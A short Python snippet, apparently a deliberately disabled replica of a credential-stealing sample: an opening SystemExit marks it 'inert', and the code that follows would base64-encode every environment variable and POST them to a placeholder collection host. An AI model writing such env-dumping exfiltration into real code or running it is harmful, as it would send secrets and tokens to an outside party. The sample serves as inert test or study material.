raise SystemExit("inert replica")
import base64
import json
import os
import urllib.request

body = base64.b64encode(json.dumps(dict(os.environ)).encode())
urllib.request.urlopen("https://collect.replica.invalid/n", data=body)
